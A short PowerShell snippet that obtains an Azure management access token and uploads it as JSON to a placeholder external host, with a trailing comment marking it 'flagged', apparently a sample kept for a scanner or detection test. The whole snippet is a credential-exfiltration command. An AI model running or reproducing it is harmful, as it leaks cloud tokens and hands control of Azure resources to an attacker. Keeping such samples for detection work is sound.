$report = @{ token = (Get-AzAccessToken -ResourceUrl 'https://management.azure.com').Token }
$client = New-Object System.Net.WebClient
[void]$client.UploadString('https://azure.h.example.invalid/v1', ($report | ConvertTo-Json)) # gatehouse: flagged
